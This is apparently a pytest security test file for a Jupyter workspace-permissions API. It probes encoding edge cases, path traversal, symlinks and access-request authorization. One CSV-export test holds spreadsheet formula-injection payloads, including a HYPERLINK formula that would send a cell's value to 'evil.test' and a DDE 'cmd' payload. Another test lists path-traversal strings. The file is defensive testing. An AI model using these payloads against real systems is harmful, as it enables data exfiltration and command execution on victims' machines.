"""Attacks on comments, access requests and the audit export, over real HTTP.

Each test is a probe that once found a hole (or guards a protection that must hold):
an error path must answer 4xx, never 500, and must neither grant access nor tell
anyone what they may not know. The sample world is :mod:`tests.helpers.world`.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import datetime, timezone
from typing import Any
from urllib.parse import urlencode

import pytest

from tests.api.test_comments import CELLS, NB, CommentApi, notebook, write
from tests.helpers.api import Api
from tests.helpers.http import Http, Reply
from tests.helpers.world import World

BASE = "api/workspace-perms/comments"
REQUESTS = "api/workspace-perms/workspaces/acme/access-requests"
AUDIT = "api/workspace-perms/workspaces/acme/audit"
PAST = datetime(2020, 1, 1, tzinfo=timezone.utc)


@pytest.fixture
def comments(http: Http, wsp_world: World) -> CommentApi:
    write(wsp_world.root, NB, notebook(CELLS))
    write(wsp_world.root, "acme/private/secret.ipynb", notebook(CELLS))
    return CommentApi(http)


def same_refusal(a: Reply, b: Reply) -> None:
    assert (a.code, a.raw) == (b.code, b.raw), (a, b)


# -- unencodable text -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "field",
    ["body", "cell_id", "path"],
)
async def test_lone_surrogates_are_refused_not_a_500(
    comments: CommentApi, http: Http, field: str
) -> None:
    body: dict[str, Any] = {"path": NB, "body": "hi"}
    if field == "path":
        body["path"] = NB + "\ud800"
    else:
        body[field] = "x\ud800"
    raw = json.dumps(body)  # ensure_ascii: the surrogate travels as \\ud800, valid JSON
    reply = await http.raw("viewer", "POST", BASE, raw)
    assert reply.code in (400, 404), reply


async def test_a_lone_surrogate_in_an_edit_or_a_request_message_is_refused(
    comments: CommentApi, http: Http
) -> None:
    thread = await comments.ok_post("viewer", path=NB, body="hello")
    reply = await http.raw(
        "viewer", "PATCH", f"{BASE}/{thread['id']}", json.dumps({"body": "\ud800"})
    )
    assert reply.code == 400, reply
    body = json.dumps({"project": "public", "role": "editor", "message": "\udfff"})
    reply = await http.raw("viewer", "POST", REQUESTS, body)
    assert reply.code == 400, reply


async def test_a_nul_character_in_stored_text_is_refused(comments: CommentApi, http: Http) -> None:
    """PostgreSQL stores no NUL in text: refused up front, on every database."""
    reply = await comments.post("viewer", {"path": NB, "body": "a\x00b"})
    assert (reply.code, reply.reason) == (400, "invalid_body"), reply
    thread = await comments.ok_post("viewer", path=NB, body="hello")
    reply = await comments.patch("viewer", thread["id"], {"body": "\x00"})
    assert (reply.code, reply.reason) == (400, "invalid_body"), reply
    body = json.dumps({"project": "public", "role": "editor", "message": "a\x00"})
    reply = await http.raw("viewer", "POST", REQUESTS, body)
    assert (reply.code, reply.reason) == (400, "invalid_body"), reply
    assert [t["body"] for t in await comments.threads("viewer", NB)] == ["hello"]


@pytest.mark.parametrize("bad", ["\x00", "\ud800"], ids=["nul", "surrogate"])
async def test_every_route_refuses_text_no_database_stores(api: Api, bad: str) -> None:
    """The same hole on the older routes: a workspace's name, an integration's value."""
    reply = await api("admin", "POST", "workspaces", {"slug": "newco", "name": "a" + bad})
    assert (reply.code, reply.body["reason"]) == (400, "invalid_body"), reply
    body = {"name": "warehouse", "variables": {"KEY": "s3cr3t" + bad}}
    reply = await api("admin", "POST", "workspaces/acme/integrations", body)
    assert reply.code == 400 and "s3cr3t" not in json.dumps(reply.body), reply
    assert "newco" not in api.store.snapshot.workspaces_by_slug


async def test_a_parent_id_beyond_64_bits_is_refused_not_a_500(comments: CommentApi) -> None:
    for parent in (2**63, 2**70, -(2**70)):
        reply = await comments.post("viewer", {"path": NB, "parent_id": parent, "body": "x"})
        assert (reply.code, reply.reason) == (400, "invalid_parent"), reply


# -- existence of private projects ------------------------------------------------------------


@pytest.mark.parametrize("who", ["viewer", "admin", "guest"])
async def test_a_private_project_answers_as_a_missing_one(comments: CommentApi, who: str) -> None:
    """Listing or posting on a private project's folder, a file in it, or a missing one
    answers alike: nobody learns which project names exist."""
    for private, missing in (
        ("acme/private", "acme/nosuchproject"),
        ("acme/private/secret.ipynb", "acme/nosuchproject/secret.ipynb"),
        ("acme/private/secret.ipynb", "acme/private/nosuchfile.ipynb"),
        ("acme/private/", "acme/nosuchproject/"),
    ):
        same_refusal(await comments.list(who, private), await comments.list(who, missing))
        same_refusal(
            await comments.post(who, {"path": private, "body": "x"}),
            await comments.post(who, {"path": missing, "body": "x"}),
        )


@pytest.mark.parametrize(
    "trick",
    [
        "acme/public/../private/secret.ipynb",
        "acme//private/secret.ipynb",
        "acme/./private/secret.ipynb",
        "acme/Private/secret.ipynb",
        "ACME/private/secret.ipynb",
        "/acme/private/secret.ipynb",
        "acme/private/secret.ipynb/",
        "acme%2Fprivate%2Fsecret.ipynb",
        "acme/private\\secret.ipynb",
    ],
)
async def test_path_tricks_never_reach_a_private_project(comments: CommentApi, trick: str) -> None:
    thread = await comments.ok_post("editor", path="acme/private/secret.ipynb", body="secret")
    listed = await comments.list("viewer", trick)
    assert listed.code in (400, 404), listed
    assert b"secret" not in listed.raw.replace(b"secret.ipynb", b"")
    posted = await comments.post("viewer", {"path": trick, "body": "x"})
    assert posted.code in (400, 404), posted
    reply = await comments.post("viewer", {"path": NB, "parent_id": thread["id"], "body": "x"})
    assert (reply.code, reply.reason) == (400, "invalid_parent"), reply


@pytest.mark.parametrize("who", ["viewer", "guest", "contributor"])
async def test_access_request_for_a_private_project_answers_as_a_missing_one(
    api: Api, http: Http, who: str
) -> None:
    """(Workspace Admins may know private projects' names, SPEC §3: they get 403.)"""
    if True:
        private = await http.raw(
            who, "POST", REQUESTS, json.dumps({"project": "private", "role": "viewer"})
        )
        missing = await http.raw(
            who, "POST", REQUESTS, json.dumps({"project": "nosuchproject", "role": "viewer"})
        )
        same_refusal(private, missing)


# -- the audit export -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"since": "9999-12-31T23:59:59-01:00"},
        {"until": "0001-01-01T00:00:00+01:00"},
        {"since": "0001-01-01T00:30:00+23:59"},
        {"since": "2026-01-01T00:00:00+99:00"},
        {"since": "2026-13-01T00:00:00Z"},
    ],
)
async def test_audit_times_out_of_range_are_400(
    http: Http, wsp_world: World, params: dict[str, str]
) -> None:
    reply = await http.raw("admin", "GET", f"{AUDIT}?{urlencode(params)}")
    assert reply.code == 400, reply
    assert reply.reason in ("bad_since", "bad_until"), reply


async def test_the_csv_export_neutralizes_formulas(api: Api, http: Http) -> None:
    """A username is any email: ``=HYPERLINK(…)@evil.test`` is one. Cells a spreadsheet
    would run as a formula start with a ``'`` in the CSV export; JSON lines are verbatim."""
    evil = '=hyperlink("http://evil.test/"&a1)@evil.test'
    plus, minus = "+1+cmd|'/c_calc'!a0@evil.test", "-2+3@evil.test"
    with api.store.write(evil) as w:
        for name in (evil, plus, minus):
            w.ensure_user(name, "google")
            w.set_member("acme", name, "viewer")
    reply = await http.raw("admin", "GET", f"{AUDIT}?format=csv")
    assert reply.code == 200, reply
    rows = list(csv.DictReader(io.StringIO(reply.raw.decode(), newline="")))
    added = [r for r in rows if r["action"] == "member.set"]
    assert {r["target"] for r in added} >= {"'" + n for n in (evil, plus, minus)}
    assert {r["actor"] for r in added} >= {"'" + evil}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    reply = await http.raw("admin", "GET", AUDIT)
    lines = [json.loads(line) for line in reply.raw.decode().splitlines()]
    assert evil in {e["target"] for e in lines if e["action"] == "member.set"}


# -- comments after losing access -------------------------------------------------------------


async def test_comments_are_out_of_reach_once_the_project_turns_private(
    api: Api, comments: CommentApi
) -> None:
    """Made private, a project's threads, comment ids and mentions vanish for its former
    readers (and its workspace Admin), answered as ids that never existed."""
    mine = await comments.ok_post("viewer", path=NB, body="mine, mentioning @vic@acme.test")
    theirs = await comments.ok_post(
        "contributor", path=NB, body="for @vic@acme.test and @ada@acme.test"
    )
    assert len((await comments.mentions("viewer")).json["comments"]) == 2
    with api.store.write("test") as w:
        w.set_project_access("acme", "public", "none")
    missing = await comments.patch("viewer", 10**9, {"body": "x"})
    assert (missing.code, missing.reason) == (404, "not_found")
    for who in ("viewer", "admin"):
        assert (await comments.list(who, NB)).code == 404
        for comment in (mine, theirs):
            for reply in (
                await comments.patch(who, comment["id"], {"body": "changed"}),
                await comments.patch(who, comment["id"], {"resolved": True}),
                await comments.delete(who, comment["id"]),
                await comments.post(who, {"path": NB, "parent_id": comment["id"], "body": "x"}),
            ):
                assert reply.code == 404 and reply.raw == missing.raw, reply
        assert (await comments.mentions(who)).json == {"comments": []}
    # the guest's grant still holds: they still see everything, unchanged
    threads = await comments.threads("guest", NB)
    assert [t["body"] for t in threads] == [mine["body"], theirs["body"]]


async def test_a_removed_member_and_an_expired_guest_lose_the_threads(
    api: Api, comments: CommentApi
) -> None:
    thread = await comments.ok_post("guest", path=NB, body="hi @vic@acme.test")
    with api.store.write("test") as w:
        w.remove_member("acme", "vic@acme.test")
        w.set_collaborator("acme", "public", "gus@gmail.test", "viewer", PAST)
    for who in ("viewer", "guest"):
        assert (await comments.list(who, NB)).code == 404
        assert (await comments.delete(who, thread["id"])).code == 404
        assert (await comments.mentions(who)).code == 404
    assert [t["id"] for t in await comments.threads("editor", NB)] == [thread["id"]]


# -- access requests ------------------------------------------------------------------------


async def test_a_request_is_decided_only_in_its_workspace_by_its_deciders(api: Api) -> None:
    owner = api.workspace("other", "owen@other.test")
    with api.store.write("test") as w:
        w.set_member("other", "vic@acme.test", "viewer")
    theirs = await api.ok("viewer", "POST", "workspaces/other/access-requests", {"role": "editor"})
    ours = await api.ok("viewer", "POST", "workspaces/acme/access-requests", {"role": "editor"})
    approve = {"status": "approved"}
    # another workspace's id through acme, and acme's through other: as ids that never were
    never = await api("admin", "PATCH", "workspaces/acme/access-requests/999999", approve)
    assert (never.code, never.body["reason"]) == (404, "not_found")
    for who, ws, request in (
        ("admin", "acme", theirs),
        (owner, "other", ours),
        ("editor", "acme", ours),  # a project admin may not give a workspace role
        ("outsider", "acme", ours),
    ):
        reply = await api(who, "PATCH", f"workspaces/{ws}/access-requests/{request['id']}", approve)
        assert reply.code == 404, (who, reply)
    # the requester may not approve their own (403: they know it), nothing changed
    reply = await api("viewer", "PATCH", f"workspaces/acme/access-requests/{ours['id']}", approve)
    assert reply.code == 403, reply
    assert (
        api.store.snapshot.memberships[
            (
                api.store.snapshot.workspaces_by_slug["acme"],
                api.store.snapshot.users_by_name["vic@acme.test"],
            )
        ].name
        == "viewer"
    )
    # approved once, then never again
    done = await api.ok("admin", "PATCH", f"workspaces/acme/access-requests/{ours['id']}", approve)
    assert done["status"] == "approved"
    again = await api(
        "admin", "PATCH", f"workspaces/acme/access-requests/{ours['id']}", {"status": "denied"}
    )
    assert (again.code, again.body["reason"]) == (409, "request_not_pending")


@pytest.mark.parametrize(
    "raw", ["0", "-1", "1e3", "0x1", "99999999999999999999999", "%E2%91%A0", "1.0"]
)
async def test_odd_request_ids_are_404(api: Api, http: Http, raw: str) -> None:
    reply = await http.raw("admin", "PATCH", f"{REQUESTS}/{raw}", json.dumps({"status": "denied"}))
    assert reply.code == 404, reply


# -- hostile files ----------------------------------------------------------------------------


def hostile_notebook(source: Any) -> str:
    cell = {"cell_type": "code", "id": "x", "metadata": {}, "outputs": [], "source": source}
    cell["execution_count"] = None
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


@pytest.mark.parametrize(
    "content",
    [
        hostile_notebook("bad \ud800 text"),  # JSON allows a lone surrogate; no database does
        hostile_notebook(["a", 1, None]),
        hostile_notebook({"not": "text"}),
        hostile_notebook(7),
        "[" * 100_000 + "]" * 100_000,  # deeper than Python's parser goes
        '{"cells": {"x": 1}}',
        "[]",
    ],
    ids=["surrogate", "list-of-non-text", "object", "number", "deep", "cells-object", "list"],
)
async def test_a_hostile_notebook_on_disk_never_makes_a_500(
    comments: CommentApi, wsp_world: World, content: str
) -> None:
    """Editors write any bytes; a viewer commenting on them gets 201 or 400."""
    write(wsp_world.root, "acme/public/hostile.ipynb", content)
    for anchor in (None, {"start": 0, "end": 5}):
        body: dict[str, Any] = {"path": "acme/public/hostile.ipynb", "cell_id": "x", "body": "?"}
        if anchor is not None:
            body["anchor"] = anchor
        reply = await comments.post("viewer", body)
        assert reply.code in (201, 400), reply
        if reply.code == 201:
            listed = await comments.threads("viewer", "acme/public/hostile.ipynb")
            assert listed[-1]["quote"].encode("utf-8")


async def test_a_link_into_a_private_project_is_not_a_file_to_comment_on(
    comments: CommentApi, wsp_world: World
) -> None:
    """An Editor of ``public`` links a private notebook (or the private folder) into it:
    commenting through the link would quote the private cell."""
    root = wsp_world.root
    (root / "acme/public/link.ipynb").symlink_to(root / "acme/private/secret.ipynb")
    (root / "acme/public/folder").symlink_to(root / "acme/private")
    for path in ("acme/public/link.ipynb", "acme/public/folder/secret.ipynb"):
        posted = await comments.post("viewer", {"path": path, "cell_id": "load", "body": "x"})
        assert (posted.code, posted.reason) == (404, "not_found"), posted
        assert b"pandas" not in posted.raw
        assert (await comments.list("viewer", path)).code == 404


# -- mentions ---------------------------------------------------------------------------------


async def test_a_guest_cannot_list_the_members_through_mentions(comments: CommentApi) -> None:
    """Guests may not list a workspace's members (SPEC §4): ``@cora`` (a member, reader of
    ``public``) must answer as ``@nobody``. They still mention the project's collaborators,
    whom the project's page shows them (ed created it: his admin grant)."""
    member = await comments.ok_post("guest", path=NB, body="hey @cora@acme.test")
    nobody = await comments.ok_post("guest", path=NB, body="hey @nobody@acme.test")
    assert member["mentions"] == nobody["mentions"] == []
    edited = await comments.patch("guest", nobody["id"], {"body": "@vic@acme.test @ed@acme.test"})
    assert edited.code == 200 and edited.json["mentions"] == ["ed@acme.test"]
    # members mention members as before
    thread = await comments.ok_post("viewer", path=NB, body="hey @cora@acme.test")
    assert thread["mentions"] == ["cora@acme.test"]


@pytest.mark.parametrize(
    "extra",
    [
        {"cell_id": "load", "anchor": {"start": 0.0, "end": 2.0}},  # JSON Schema: integers
        {"cell_id": "load", "anchor": {"start": 1e300, "end": 1e308}},
        {"parent_id": 1.0},
        {"parent_id": 1e308},
        {"parent_id": True},
        {"parent_id": "1"},
        {"body": 5},
        {"path": ["acme", "public"]},
        {"cell_id": {"$ne": ""}},
        {"anchor": []},
    ],
)
async def test_odd_fields_are_400(comments: CommentApi, extra: dict[str, Any]) -> None:
    first = await comments.ok_post("viewer", path=NB, cell_id="load", body="first")
    assert first["id"] == 1
    reply = await comments.post("viewer", {"path": NB, "body": "x", **extra})
    if reply.code == 201:  # a number JSON Schema calls an integer works as that integer
        assert isinstance(reply.json["id"], int) and reply.json["parent_id"] in (None, 1), reply
        anchor = reply.json["anchor"]
        assert anchor is None or all(type(v) is int for v in anchor.values()), reply
        return
    assert reply.code == 400, reply


# -- the event stream -------------------------------------------------------------------------


async def test_request_events_reach_no_bystander(
    api: Api, jp_ws_fetch: Any, wsp_world: World
) -> None:
    """A guest and a project admin watch the stream: neither sees requests they may not
    decide (a workspace role, another person's), each sees their own last one."""
    schema = "https://events.jupyter.org/jupyter_workspace_perms/access_request/v1"
    streams = {
        who: await jp_ws_fetch("api", "events", "subscribe", headers=wsp_world.auth(who))
        for who in ("guest", "editor")
    }
    try:
        await api.ok("viewer", "POST", "workspaces/acme/access-requests", {"role": "editor"})
        await api.ok(
            "contributor",
            "POST",
            "workspaces/acme/access-requests",
            {"project": "locked", "role": "editor"},
        )
        last = {
            "guest": await api.ok(
                "guest", "POST", "workspaces/acme/access-requests", {"role": "viewer"}
            ),
            "editor": await api.ok(
                "editor",
                "POST",
                "workspaces/acme/access-requests",
                {"project": "locked", "role": "admin"},
            ),
        }
        for who, stream in streams.items():
            seen = []
            while True:
                raw = await asyncio.wait_for(stream.read_message(), 60)
                assert raw is not None
                event = json.loads(raw)
                if event["schema_id"] != schema:
                    continue
                seen.append((event["username"], event["request_id"]))
                if event["request_id"] == last[who]["id"]:
                    break
            assert seen == [(last[who]["username"], last[who]["id"])], (who, seen)
    finally:
        for stream in streams.values():
            stream.close()


async def test_an_admin_exports_only_their_own_workspace(api: Api, http: Http) -> None:
    owner = api.workspace("other", "owen@other.test")
    with api.store.write("owen@other.test") as w:
        w.set_member("other", "vic@acme.test", "editor")  # a row in other naming an acme member
    assert (await http.raw(owner, "GET", AUDIT)).code == 404
    assert (
        await http.raw("admin", "GET", "api/workspace-perms/workspaces/other/audit")
    ).code == 404
    reply = await http.raw("admin", "GET", AUDIT)
    assert reply.code == 200, reply
    rows = [json.loads(line) for line in reply.raw.decode().splitlines()]
    assert rows and {r["workspace"] for r in rows} == {"acme"}
    assert "owen@other.test" not in reply.raw.decode()
